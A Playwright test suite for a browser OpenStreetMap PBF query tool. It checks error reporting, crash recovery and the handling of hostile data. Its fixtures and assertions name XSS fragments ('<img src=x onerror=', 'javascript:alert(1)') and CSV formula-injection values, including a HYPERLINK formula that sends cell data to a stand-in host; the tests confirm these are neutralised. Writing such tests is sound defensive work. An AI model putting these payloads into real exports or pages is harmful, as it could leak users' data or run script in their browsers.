/**
 * Bad input in the browser: files that are not PBF, broken frames and blobs, unsupported
 * features, hostile tag values. The user sees a clear `error: …` status, what was found before
 * the bad spot stays, the page stays usable, and nothing from the data runs.
 */
import { expect, test, type Page } from '@playwright/test';
import { createReadStream, existsSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { startLocalServer } from '../local-server';
import { DATA_DIR, FIXTURE_DIR } from './data';

const status = (page: Page) => page.getByTestId('status');
const count = (page: Page) => page.getByTestId('result-count');
const HELSINKI_CAFES = '/?q=amenity=cafe&near=60.1699,24.9384&radius=1000';

async function open(page: Page, name: string, buffer: Buffer): Promise<void> {
  await page.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/octet-stream', buffer });
}

/** A BlobHeader message: type string (field 1) and datasize varint (field 3). */
function blobHeader(type: string, datasize: number): Buffer {
  const varint: number[] = [];
  for (let v = datasize; ; v = Math.floor(v / 128)) {
    if (v < 128) {
      varint.push(v);
      break;
    }
    varint.push((v % 128) | 0x80);
  }
  const header = Buffer.concat([Buffer.from([0x0a, type.length]), Buffer.from(type), Buffer.from([0x18, ...varint])]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(header.length);
  return Buffer.concat([length, header]);
}

const helsinki = () => readFileSync(join(DATA_DIR, 'helsinki.osm.pbf'));

const NOT_PBF: [string, Buffer, RegExp][] = [
  ['empty.osm.pbf', Buffer.alloc(0), /^error: the file is empty/],
  ['map.osm', Buffer.from('<?xml version="1.0"?>\n<osm version="0.6"><node id="1"/></osm>'), /OSM XML.*osmium cat in\.osm -o out\.osm\.pbf/],
  ['map.osm.bz2', Buffer.from('BZh91AY&SY\x00\x00\x00\x00', 'latin1'), /bzip2/],
  ['map.osm.gz', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), /gzip/],
  ['map.zip', Buffer.from('PK\x03\x04\x14\x00\x00\x00', 'latin1'), /zip archive/],
  ['download.osm.pbf', Buffer.from('<!DOCTYPE html><html><body>404 Not Found</body></html>'), /HTML page/],
  ['random.bin', Buffer.from([0xde, 0xad, 0xbe, 0xef, 1, 2, 3]), /BlobHeader length \d+ exceeds the spec's 64 KiB cap: not a PBF file/],
];

for (const [name, bytes, message] of NOT_PBF) {
  test(`not a PBF: ${name}`, async ({ page }) => {
    await page.goto(HELSINKI_CAFES);
    await open(page, name, bytes);
    await expect(status(page)).toHaveText(/^error: /);
    await expect(status(page)).toHaveText(message);
  });
}

test('framing errors name the spot: oversized BlobHeader, oversized Blob, truncation', async ({ page }) => {
  await page.goto(HELSINKI_CAFES);
  const file = helsinki();
  const firstFrame = 4 + file.readUInt32BE(0);
  // Second frame's BlobHeader length set to 70 000 (> 64 KiB).
  const osmHeaderDatasize = (() => {
    const h = file.subarray(4, firstFrame);
    let v = 0;
    let scale = 1;
    for (let i = h.indexOf(0x18) + 1; ; i++) {
      v += (h[i] & 0x7f) * scale;
      if (h[i] < 0x80) return v;
      scale *= 128;
    }
  })();
  const second = firstFrame + osmHeaderDatasize;
  const bigHeader = Buffer.from(file);
  bigHeader.writeUInt32BE(70_000, second);
  await open(page, 'big-header.osm.pbf', bigHeader);
  await expect(status(page)).toHaveText(new RegExp(`^error: BlobHeader length 70000 exceeds the spec's 64 KiB cap: corrupt file \\(at byte ${second}, blob #1\\)`));

  const bigBlob = Buffer.concat([file.subarray(0, second), blobHeader('OSMData', 40 << 20)]);
  await open(page, 'big-blob.osm.pbf', bigBlob);
  await expect(status(page)).toHaveText(/^error: Blob datasize 41943040 exceeds the spec's 32 MiB cap/);

  await open(page, 'truncated.osm.pbf', file.subarray(0, second + 1000));
  await expect(status(page)).toHaveText(/^error: file truncated inside the OSMData Blob/);
});

test('a truncated real file keeps the matches found before the cut', async ({ page }) => {
  await page.goto('/?q=amenity=cafe'); // the whole file
  const malta = readFileSync(join(DATA_DIR, 'malta.osm.pbf'));
  await open(page, 'malta.osm.pbf', malta);
  await expect(status(page)).toHaveText('done');
  const whole = Number(await count(page).textContent());
  await open(page, 'malta-cut.osm.pbf', malta.subarray(0, Math.floor(malta.length * 0.6)));
  await expect(status(page)).toHaveText(/^error: file truncated/);
  const kept = Number(await count(page).textContent());
  expect(kept).toBeGreaterThan(0);
  expect(kept).toBeLessThan(whole);
  await expect(page.getByTestId('result-item').first()).toBeVisible();
});

const BROKEN_BLOCKS: [string, RegExp][] = [
  ['unknown-feature.osm.pbf', /the file requires feature "Fancy-Future-Feature"/],
  ['lzma-blob.osm.pbf', /blob #4 at byte \d+: unsupported compression lzma/],
  ['corrupt-zstd.osm.pbf', /blob #4 at byte \d+: corrupt compressed data: zstd: /],
  ['lying-lz4.osm.pbf', /blob #4 at byte \d+: (corrupt compressed data: lz4|Blob raw_size says)/],
  ['corrupt-zlib.osm.pbf', /blob #4 at byte \d+: (corrupt compressed data: zlib|Blob raw_size)/],
  ['bad-in-the-middle.osm.pbf', /blob #4 at byte \d+: (corrupt compressed data: zlib|Blob raw_size)/],
  ['lying-raw-size.osm.pbf', /blob #4 at byte \d+: Blob raw_size says \d+ bytes but the data inflates to/],
  ['string-index.osm.pbf', /blob #4 at byte \d+: string table index 999 out of range/],
  ['delta-overflow.osm.pbf', /blob #4 at byte \d+: DenseNodes id overflows 64 bits/],
];

for (const [name, message] of BROKEN_BLOCKS) {
  test(`broken block: ${name}`, async ({ page }) => {
    await page.goto(HELSINKI_CAFES);
    await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, name));
    await expect(status(page)).toHaveText(/^error: /);
    await expect(status(page)).toHaveText(message);
    // Blobs 1–3 hold 15 good cafés; a header problem stops before any.
    await expect(count(page)).toHaveText(name.includes('feature') ? '0' : '15');
    // Still usable: a good file right after works.
    await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'helsinki.osm.pbf'));
    await expect(status(page)).toHaveText('done');
    await expect(count(page)).toHaveText('87');
  });
}

test('hostile tag values are shown as text: nothing runs, links are http(s) only, layout holds', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(HELSINKI_CAFES);
  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'hostile.osm.pbf'));
  await expect(status(page)).toHaveText('done');
  await expect(count(page)).toHaveText('4');
  const items = page.getByTestId('result-item');
  await expect(items.filter({ hasText: '<img src=x onerror=' })).toHaveCount(1);
  // Names sit in <bdi> (direction overrides stay inside) and long ones are cut for the list.
  await expect(page.locator('#result-list li bdi')).toHaveCount(4);
  const longest = await page.locator('#result-list li bdi').evaluateAll((els) => Math.max(...els.map((e) => e.textContent!.length)));
  expect(longest).toBeLessThanOrEqual(121);
  for (let i = 0; i < 4; i++) {
    await items.nth(i).click();
    const popup = page.getByTestId('popup');
    await expect(popup).toBeVisible();
    const hrefs = await popup.locator('a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
    for (const href of hrefs) expect(href).toMatch(/^https?:\/\//);
  }
  await items.filter({ hasText: 'evil' }).click();
  await expect(page.getByTestId('popup').locator('a[href="https://example.org/menu"]')).toHaveCount(1);
  await expect(page.getByTestId('popup')).toContainText('javascript:alert(1)');
  expect(await page.locator('#panel img, #panel script, #panel b, .maplibregl-popup img, .maplibregl-popup script').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  const overflow = await page.locator('#panel').evaluate((el) => el.scrollWidth - el.clientWidth);
  expect(overflow).toBeLessThanOrEqual(1);
});

/** The records of an RFC 4180 text: fields split at commas outside quotes, quotes undoubled. */
function csvRecords(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') record.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += c;
  }
  return records;
}

test('exports keep tag values as text: no CSV cell reads as a formula, numbers stay numbers, tags named like own fields keep their values', async ({ page }) => {
  await page.goto(HELSINKI_CAFES);
  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'export-traps.osm.pbf'));
  await expect(status(page)).toHaveText('done');
  await expect(count(page)).toHaveText('2');
  const csvDownload = page.waitForEvent('download');
  await page.getByTestId('export-csv').click();
  const [header, ...rows] = csvRecords(readFileSync(await (await csvDownload).path(), 'utf8'));
  // No cell starts with what a spreadsheet runs (OWASP): those get a ' in front.
  for (const cell of [...header, ...rows.flat()]) if (/^[=+@-]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
  expect(header.filter((k) => k === 'osm_id' || k === 'osm_type')).toHaveLength(2);
  const first = Object.fromEntries(header.map((k, i) => [k, rows.find((r) => r[1] === '1')![i]]));
  expect(first).toMatchObject({ osm_type: 'node', osm_id: '1', name: `'=HYPERLINK("http://x.example/?leak="&A1,"open")`, layer: '-1', ele: '-3.5', 'tag:osm_id': '1', 'tag:osm_type': 'relation', 'tag:tag:osm_id': '2' });
  const second = Object.fromEntries(header.map((k, i) => [k, rows.find((r) => r[1] === '2')![i]]));
  expect(second).toMatchObject({ name: "'+SUM(1,2)", note: "'@SUM(1,1)", "'=cmd": 'x' });
  const geojsonDownload = page.waitForEvent('download');
  await page.getByTestId('export-geojson').click();
  const features = JSON.parse(readFileSync(await (await geojsonDownload).path(), 'utf8')).features as GeoJSON.Feature[];
  const node1 = features.find((f) => f.properties?.osm_id === 1)!.properties;
  expect(node1).toMatchObject({ osm_type: 'node', osm_id: 1, 'tag:osm_id': '1', 'tag:osm_type': 'relation', 'tag:tag:osm_id': '2', layer: '-1' });
});

test('with no area, a match none of whose nodes is in the file is counted, listed with its reason and exported with no geometry', async ({ page }) => {
  // fixtures::members_missing: 4 cafés, way 20 and relation 30 with no node in the file.
  await page.goto('/?q=amenity=cafe');
  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'members-missing.osm.pbf'));
  await expect(status(page)).toHaveText('done');
  await expect(count(page)).toHaveText('4');
  const way = page.locator('[data-testid=result-item][data-osm-type=way][data-osm-id="20"]');
  await expect(way).toHaveClass(/no-geometry/);
  await expect(way).toHaveAttribute('title', 'no geometry: none of its nodes is in the file');
  await expect(page.locator('[data-testid=result-item].no-geometry')).toHaveCount(2);
  await way.click();
  await expect(page.getByTestId('popup')).toContainText('no geometry: none of its nodes is in the file: not on the map');
  const download = page.waitForEvent('download');
  await page.getByTestId('export-geojson').click();
  const features = JSON.parse(readFileSync(await (await download).path(), 'utf8')).features as GeoJSON.Feature[];
  expect(features).toHaveLength(4);
  expect(features.filter((f) => f.geometry === null).map((f) => f.properties!.osm_id).sort()).toEqual([20, 30]);
});

test('pathological but valid data is answered and drawn in bounded time, the page staying usable', async ({ page }) => {
  // fixtures::pathological: a park of 10 000 holes, a way of 100 000 nodes, a route of 50 000 ways.
  await page.goto('/?q=leisure=park or highway=footway or route=hiking');
  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'pathological.osm.pbf'));
  await expect(status(page)).toHaveText('done', { timeout: 30_000 });
  await expect(count(page)).toHaveText('3');
  await page.locator('[data-testid=result-item][data-osm-type=relation][data-osm-id="1"]').click();
  await expect(page.getByTestId('popup')).toContainText('10001 members');
  // The page still answers at once: the next question runs on the same file.
  await page.getByLabel('Query', { exact: true }).fill('test=missing');
  await page.getByRole('button', { name: 'Run query' }).click();
  await expect(count(page)).toHaveText('1', { timeout: 10_000 });
  await expect(status(page)).toHaveText('done');
  await expect(page.locator('[data-testid=result-item].no-geometry')).toHaveCount(1);
});

test('the Content-Security-Policy blocks inline script', async ({ page }) => {
  await page.goto('/');
  const csp = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
  const ran = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    await new Promise((r) => setTimeout(r, 50));
    return (window as unknown as { __inline?: number }).__inline;
  });
  expect(ran).toBeUndefined();
});

test('the whole 110 MB synthetic file as the area: every node located, the data README\'s answers', async ({ page }) => {
  // expected/with-relations/malta.cafe-all.json, and the README's 4560 for the synthetic file.
  const malta = JSON.parse(readFileSync(join(DATA_DIR, 'expected/with-relations/malta.cafe-all.json'), 'utf8'));
  await page.goto('/?q=amenity=cafe');
  await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta.osm.pbf'));
  await expect(status(page)).toHaveText('done');
  await expect(count(page)).toHaveText(String(malta.count_with_relations));
  await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta-x20-synthetic.osm.pbf'));
  await expect(status(page)).toHaveText('done', { timeout: 150_000 });
  await expect(count(page)).toHaveText('4560');
});

test('an answer too large to draw whole: the map draws an even sample and says so, the list holds every match', async ({ page }) => {
  // 421 620 matches: past the crate's MAP_MAX_FEATURES (25 000), 1 in 32 is drawn.
  await page.goto('/?q=building');
  await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta-x20-synthetic.osm.pbf'));
  await expect(status(page)).toHaveText('done', { timeout: 150_000 });
  await expect(count(page)).toHaveText('421620');
  await expect(page.getByTestId('map-sample')).toBeVisible();
  await expect(page.getByTestId('map-sample')).toHaveText(/the map draws 1 in 32, picked evenly \(about 13,176 of 421,620\)\. The list and the exports hold every match\./);
  // The list reaches its last row.
  await page.getByTestId('result-scroll').evaluate((el) => (el.scrollTop = el.scrollHeight));
  await expect(page.locator('[data-testid=result-item][value="421620"]')).toBeVisible();
});

/** The decode pool's size as the page computes it (workers/pool/pool.ts): one per core, at most 32.
 * Waiting for that many workers, not for the first, keeps a slow start from being read as the pool. */
function poolSize(page: Page): Promise<number> {
  return page.evaluate(() => Math.max(1, Math.min(navigator.hardwareConcurrency || 4, 32)));
}

test('a decode worker that crashes is replaced, and the query ends with the crash named', async ({ page }) => {
  await page.goto('/?q=amenity=cafe&near=36.8989,15.7146&radius=1000');
  await page.locator('html[data-ready]').waitFor({ state: 'attached' }); // the warm-up's blobs are done
  const decodeWorkers = () => page.workers().filter((w) => w.url().includes('decode-worker'));
  const before = await poolSize(page);
  await expect.poll(() => decodeWorkers().length).toBe(before);
  const victim = decodeWorkers()[0];
  const closed = new Promise((resolve) => victim.once('close', resolve));
  // From now on the worker throws on every batch of blobs it is sent, uncaught: its `error`
  // event fires while it holds a blob of the query, as when a worker dies mid-job.
  await victim.evaluate(() => {
    const scope = self as unknown as { onmessage: (e: MessageEvent) => void };
    const serve = scope.onmessage;
    scope.onmessage = (e) => {
      if ((e.data as { type: string }).type === 'calls') throw new Error('simulated crash');
      serve(e);
    };
  });
  await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta-x20-synthetic.osm.pbf'));
  await expect(status(page)).toHaveText(/^error: blob #\d+ at byte \d+: a decode worker crashed.*simulated crash/, { timeout: 120_000 });
  await closed; // the pool ended the crashed worker…
  await expect.poll(() => decodeWorkers().length).toBe(before); // …and started another
  expect(decodeWorkers()).not.toContain(victim);
  await page.getByRole('button', { name: 'Run query' }).click();
  await expect(status(page)).toHaveText('done', { timeout: 120_000 });
  await expect(count(page)).toHaveText('43');
});

test('a real Wasm trap in the decoder ends the query with a named error, and the next query works', async ({ page }) => {
  // The test-trap build (scripts/test.sh): its decoder traps (`unreachable`) on the key test:trap.
  const dir = resolve('test-results/dist-test-trap');
  test.skip(!existsSync(dir), 'the test-trap build is missing: scripts/test.sh builds it');
  const server = await startLocalServer(dir);
  try {
    await page.goto(`${server.origin}/?q=test:trap&near=35.8989,14.5146&radius=1000`);
    const decodeWorkers = () => page.workers().filter((w) => w.url().includes('decode-worker'));
    await expect.poll(() => decodeWorkers().length).toBe(await poolSize(page));
    const first = decodeWorkers();
    await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta.osm.pbf'));
    await expect(status(page)).toHaveText(/^error: blob #\d+ at byte \d+: the decoder failed \(.*unreachable.*\)/, { timeout: 60_000 });
    // The trapped workers were closed and replaced by as many fresh ones.
    await expect.poll(() => decodeWorkers().filter((w) => first.includes(w)).length).toBeLessThan(first.length);
    await expect.poll(() => decodeWorkers().length).toBe(first.length);
    await page.getByLabel('Query', { exact: true }).fill('amenity=cafe');
    await page.getByRole('button', { name: 'Run query' }).click();
    await expect(status(page)).toHaveText('done', { timeout: 60_000 });
    await expect(count(page)).toHaveText('43');
  } finally {
    server.close();
  }
});

test('a trap in the query worker ends the query with a named error, and the next query runs in a fresh worker', async ({ page }) => {
  // The test-trap build (scripts/test.sh): the query worker's assembler traps on the key test:trap-assembler
  // when made, and its export on test:trap-export.
  const dir = resolve('test-results/dist-test-trap');
  test.skip(!existsSync(dir), 'the test-trap build is missing: scripts/test.sh builds it');
  const server = await startLocalServer(dir);
  try {
    await page.goto(`${server.origin}/?q=amenity=cafe&near=35.8989,14.5146&radius=1000`);
    await page.locator('html[data-ready]').waitFor({ state: 'attached' });
    const queryWorkers = () => page.workers().filter((w) => w.url().includes('query-worker'));
    const first = queryWorkers()[0];
    await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta.osm.pbf'));
    await expect(status(page)).toHaveText('done', { timeout: 60_000 });
    await page.getByLabel('Query', { exact: true }).fill('test:trap-assembler');
    await page.getByRole('button', { name: 'Run query' }).click();
    await expect(status(page)).toHaveText(/^error: the decoder failed \(.*unreachable.*\); the next query starts a fresh one$/, { timeout: 60_000 });
    await page.getByLabel('Query', { exact: true }).fill('amenity=cafe');
    await page.getByRole('button', { name: 'Run query' }).click();
    await expect(status(page)).toHaveText('done', { timeout: 60_000 });
    await expect(count(page)).toHaveText('43');
    expect(queryWorkers()).not.toContain(first);
    // A trap in a call on the answer (the export traps on the key test:trap-export): named in the
    // status, later calls say the answer is gone, and the next query runs in a fresh worker.
    await page.getByLabel('Query', { exact: true }).fill('amenity=cafe or test:trap-export=x');
    await page.getByRole('button', { name: 'Run query' }).click();
    // The status still says the last run's "done" while this one's query is checked: its end is
    // when the link says this query.
    await expect(page).toHaveURL(/trap-export/, { timeout: 60_000 });
    await expect(status(page)).toHaveText('done', { timeout: 60_000 });
    await page.getByTestId('export-geojson').click();
    await expect(status(page)).toHaveText(/^error: the decoder failed \(.*unreachable.*\); the next query starts a fresh one$/);
    await page.getByTestId('export-csv').click();
    await expect(status(page)).toHaveText('error: this answer was lost when the decoder failed: run the query again');
    await page.getByLabel('Query', { exact: true }).fill('amenity=cafe');
    await page.getByRole('button', { name: 'Run query' }).click();
    await expect(status(page)).toHaveText('done', { timeout: 60_000 });
    await expect(count(page)).toHaveText('43');
  } finally {
    server.close();
  }
});

test('a link whose query nests too deep gets an error naming the limit, and the next query works', async ({ page }) => {
  // 2 000 levels: as deep as a link's URL allows; 5 000 typed in the field below trapped the same way.
  await page.goto(`/?q=${'not+'.repeat(2_000)}amenity%3Dcafe&near=35.8989,14.5146&radius=1000`);
  await page.locator('input[type=file]').setInputFiles(join(DATA_DIR, 'malta.osm.pbf'));
  await expect(status(page)).toHaveText(/^error: .*syntax error at column 401: the query nests deeper than 100 levels of "not" and parentheses/);
  await page.getByLabel('Query', { exact: true }).fill(`${'('.repeat(20_000)}amenity=cafe${')'.repeat(20_000)} or ${'not '.repeat(5_000)}shop`);
  await page.getByRole('button', { name: 'Run query' }).click();
  await expect(status(page)).toHaveText(/syntax error at column 101: the query nests deeper than 100 levels/);
  await page.getByLabel('Query', { exact: true }).fill('amenity=cafe');
  await page.getByRole('button', { name: 'Run query' }).click();
  await expect(status(page)).toHaveText('done', { timeout: 60_000 });
  await expect(count(page)).toHaveText('43');
});

/** How many times `needle` (ASCII) occurs in the file at `path`, read in pieces (the file may exceed a string's limit). */
async function occurrences(path: string, needle: string): Promise<number> {
  let n = 0;
  let carry = '';
  for await (const chunk of createReadStream(path, { encoding: 'latin1', highWaterMark: 8 << 20 })) {
    const text = carry + (chunk as string);
    n += text.split(needle).length - 1;
    carry = text.slice(-(needle.length - 1));
  }
  return n;
}

test('tags of megabytes (20 cafés named with 30 MB each, one with 100 000 tags): the list draws, popups open cut with Show all, no area copy, exports hold every byte', async ({ page }) => {
  test.setTimeout(300_000);
  await page.goto(HELSINKI_CAFES);
  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'huge-tags.osm.pbf'));
  await expect(status(page)).toHaveText('done', { timeout: 120_000 });
  await expect(count(page)).toHaveText('21');
  const items = page.getByTestId('result-item');
  await expect(items.first()).toBeVisible();
  // A row's label is cut for the list; its popup opens at once, cut, and says what was left out.
  const longest = await page.locator('#result-list li bdi').evaluateAll((els) => Math.max(...els.map((e) => e.textContent!.length)));
  expect(longest).toBeLessThanOrEqual(121);
  await items.filter({ hasText: 'AAAA' }).click();
  const popup = page.getByTestId('popup');
  await expect(popup.getByTestId('popup-cut')).toHaveText('Shown cut: 1 long text shortened. Show all', { timeout: 5_000 });
  await items.filter({ hasText: 'amenity=cafe' }).click();
  await expect(popup.getByTestId('popup-cut')).toHaveText('Shown cut: 99500 tags left out. Show all', { timeout: 5_000 });
  expect(await popup.locator('tr').count()).toBe(500);
  // The statistics list no long text (a click on one would refine the query by a cut value): they are counted.
  await page.getByTestId('tag-stats').locator('summary').click();
  await page.locator('[data-testid=stats-key][data-text=name]').click();
  await expect(page.getByTestId('tag-stats')).toContainText('20 values over 200 bytes not listed');
  await expect(page.getByTestId('stats-value')).toHaveCount(0);
  // The area copy, made beside the answer in the same memory, is not made of hundreds of MB of
  // tags (it held each string twice, and 40 such names took the worker past Wasm's 4 GB).
  await expect(page.getByTestId('area-copy-note')).toHaveText("no area copy: the area's elements hold over 256 MB of tag text: no area copy is kept for it", { timeout: 30_000 });
  // Every export holds every match, whole.
  const csvDownload = page.waitForEvent('download');
  await page.getByTestId('export-csv').click();
  const csv = await (await csvDownload).path();
  expect(statSync(csv).size).toBeGreaterThan(20 * 30_000_000);
  expect(await occurrences(csv, '\r\n')).toBe(22);
  const geojsonDownload = page.waitForEvent('download');
  await page.getByTestId('export-geojson').click();
  const geojson = await (await geojsonDownload).path();
  expect(statSync(geojson).size).toBeGreaterThan(20 * 30_000_000);
  expect(await occurrences(geojson, '"type":"Feature"')).toBe(21);
  expect(await occurrences(geojson, 'A'.repeat(1000))).toBeGreaterThanOrEqual(29_000);
  await expect(status(page)).toHaveText('done');
});
